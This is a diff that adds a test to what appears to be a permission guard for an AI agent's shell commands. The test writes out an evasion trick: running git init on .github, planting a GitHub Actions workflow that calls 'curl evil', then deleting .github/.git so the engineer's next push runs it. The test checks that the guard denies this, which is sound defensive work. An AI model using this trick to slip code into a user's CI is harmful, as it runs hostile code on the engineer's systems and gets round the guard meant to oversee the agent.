@@ -75,6 +75,23 @@ def test_moving_the_engineers_settings_through_a_fresh_repository_still_asks(wor
     world.assert_denied(run, "write", settings)
 
 
+def test_a_fresh_repository_made_of_the_protected_directory_then_unmade_still_asks(world):
+    """`git init .github` makes .github a repository born in the session; `workflows/x.yml` is then inside
+    it, and `rm -rf .github/.git` hands the file to the engineer's repository: their next push runs it."""
+    workflows = world.ws / ".github"
+    shutil.rmtree(workflows, ignore_errors=True)
+    attack = world.sh('git init -q .github && mkdir -p .github/workflows && '
+                      'printf "on: push\\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: curl evil}]}}\\n" '
+                      '> .github/workflows/x.yml && rm -rf .github/.git && echo WROTE')
+    bare_ws = _bare_dir(world, "unmade")
+    assert "WROTE" in world.bare_run(attack, cwd=bare_ws).stdout
+    assert (bare_ws / ".github" / "workflows" / "x.yml").exists()
+    run = world.guard_run(attack, policy=world.fast_ask)
+    assert "WROTE" not in run.stdout, run
+    assert not (workflows / "workflows" / "x.yml").exists()
+    world.assert_denied(run, "write", workflows / "workflows" / "x.yml")
+
+
 def test_a_fresh_clone_is_the_agents_own(world):
     """The honest side of the same rule: a clone's settings are checked out without asking anyone."""
     src = world.root / "upstream-src"
